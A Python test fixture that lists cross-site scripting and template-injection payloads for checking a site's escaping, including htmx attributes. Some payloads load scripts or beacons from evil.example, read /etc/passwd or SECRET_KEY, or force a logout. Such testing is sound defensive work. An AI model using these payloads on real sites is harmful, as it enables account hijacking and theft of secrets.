"""What somebody may write where words are expected, so that a page does their bidding.

Each would set `window.__xss`, open a dialog or ask a foreign host if it were taken for markup, a
script, an address, a style, or a template.
"""

from __future__ import annotations

DID = "window.__xss=1"
EVIL = "//evil.example"

PAYLOADS = [
    # Elements that run scripts
    f"<script>{DID}</script>",
    f"<ScRiPt>{DID}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"<script\x0ctype=module>{DID}</script>",
    f"<<script>{DID}//<</script>",
    f"<script>{DID}",
    f"<scr<script>ipt>{DID}</scr</script>ipt>",
    # Handlers of events
    f"<img src=x onerror={DID}>",
    f'<img src="x" onerror="{DID}">',
    f"<img/src=x/onerror={DID}>",
    f"<img src=x oneonerrorrror={DID}>",
    f"<body onload={DID}>",
    f"<input autofocus onfocus={DID}>",
    f"<details open ontoggle={DID}>",
    f"<video><source onerror={DID}></video>",
    f"<audio src=x onerror={DID}>",
    f"<marquee onstart={DID}>",
    f"<div style=animation-name:x onanimationstart={DID}>",
    f"<iframe onload={DID}></iframe>",
    f"<object data=x onerror={DID}></object>",
    f"<select autofocus onfocus={DID}>",
    # Out of an attribute, in either kind of quotes or none
    f'" autofocus onfocus="{DID}',
    f"' autofocus onfocus='{DID}",
    f" autofocus onfocus={DID} x=",
    f'"><img src=x onerror={DID}>',
    f"'><img src=x onerror={DID}>",
    f"`><img src=x onerror={DID}>",
    f'x" onmouseover="{DID}" style="position:fixed;inset:0',
    # Out of elements whose text is no markup
    f"</title><script>{DID}</script>",
    f"</textarea><script>{DID}</script>",
    f"</style><script>{DID}</script>",
    f"</script><script>{DID}</script>",
    f"</noscript><img src=x onerror={DID}>",
    f"</option></select><img src=x onerror={DID}>",
    f"--><script>{DID}</script><!--",
    f"]]><script>{DID}</script>",
    # SVG and MathML
    f"<svg onload={DID}>",
    f"<svg><script>{DID}</script></svg>",
    f"<svg><animate onbegin={DID} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss=1><text y=20>go</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DID}/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={DID}></foreignObject></svg>",
    "<math><mi xlink:href=javascript:window.__xss=1>go</mi></math>",
    # Addresses
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "javascript://example.org/%0awindow.__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href=javascript:window.__xss=1>a work</a>",
    "<form action=javascript:window.__xss=1><button>go</button></form>",
    "<button formaction=javascript:window.__xss=1>go</button>",
    f"<iframe src=javascript:{DID}></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<img src={EVIL}/pixel.gif>",
    "https:evil.example/../javascript:alert(1)",
    # Templates, of this site's engine and of others
    "{{ 7|add:7 }}{% load static %}{% csrf_token %}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "${window.__xss=1}#{window.__xss=1}<%= window.__xss=1 %>",
    "%(title)s %s %(nothing)d %",
    # htmx
    f'<div hx-on:load="{DID}"></div>',
    f'<div hx-on::load="{DID}"></div>',
    f'<div data-hx-on-htmx-load="{DID}"></div>',
    f'<div hx-get="{EVIL}/" hx-trigger="load"></div>',
    f"""<div hx-get="/" hx-trigger="load[{DID}]"></div>""",
    f'<div hx-vals="js:{{a:{DID}}}" hx-get="/" hx-trigger="load"></div>',
    '<div hx-post="/logout/" hx-trigger="load"></div>',
    f'<div hx-ext="ws" ws-connect="wss:{EVIL}/"></div>',
    f"<div id=main hx-swap-oob=true><script>{DID}</script></div>",
    # Markup that changes when it is parsed a second time
    f'<noscript><p title="</noscript><img src=x onerror={DID}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={DID}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={DID}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DID}>",
    f"<listing>&lt;img src=x onerror={DID}&gt;</listing>",
    f"<template><script>{DID}</script></template>",
    # Signs that some program takes for others
    f"\uff1cscript\uff1e{DID}\uff1c/script\uff1e",
    f"&lt;script&gt;{DID}&lt;/script&gt;",
    f"&#60;script&#62;{DID}&#60;/script&#62;",
    f"%3Cscript%3E{DID}%3C/script%3E",
    f"\\u003cscript\\u003e{DID}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{DID}+ADw-/script+AD4-",
    f"\u2028<script>{DID}</script>\u2029",
    f"\u202e<script>{DID}</script>\u202c\u2066",
    f"<\u0300script>{DID}</script>",
    f"<scri\u00adpt>{DID}</script>",
    # Styles
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<div style=\"background:url('{EVIL}/x.gif')\">",
    "</style><style>body{display:none}</style>",
    "red;background:url(//evil.example/x.gif)",
    # Out of strings in scripts and in JSON
    f"';{DID}//",
    f'";{DID}//',
    f"\\';{DID}//",
    f"</script><script>{DID}</script>\\u0022",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={DID}>"}}}}',
    # Several at once
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={DID} )//%0D%0A%0d%0a//"
    f"</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={DID}//>\\x3e",
    f"'\"></title></textarea></script><svg/onload={DID}><img src={EVIL}/x onerror={DID}>{{{{7}}}}",
]


def words(field: str) -> str:
    """All of them at once, after a mark by which the field is found on a page."""
    return f"[{field}] " + " ".join(PAYLOADS)
